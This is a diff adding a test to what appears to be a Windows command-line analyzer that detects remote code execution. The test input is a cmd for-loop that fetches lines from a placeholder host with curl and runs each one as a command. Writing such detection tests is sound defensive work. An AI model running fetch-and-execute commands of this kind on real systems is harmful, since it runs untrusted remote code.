@@ -208,3 +208,9 @@ def test_what_nobody_has_set_is_left_to_the_inner_shell() -> None:
     assert argvs(f"cmd /c {inner}") == [("cmd", "/c", inner)]
     assert argvs("echo %a%")[0] == ("echo", Pattern((None,)))
     assert argvs("cmd /c echo %a%", script=True)[0] == ("cmd", "/c", Pattern(("echo ", None)))
+
+
+def test_a_line_that_another_command_puts_out_is_code_from_there() -> None:
+    last = read("for /f \"delims=\" %a in ('curl -s http://x.example') do %a").commands
+    assert ("run-code", "cmd", Pattern((None,))) in [command.argv for command in last]
+    assert "run-code" not in [argv[0] for argv in argvs("for /f %a in ('echo ver') do %a") + argvs("%a%")]
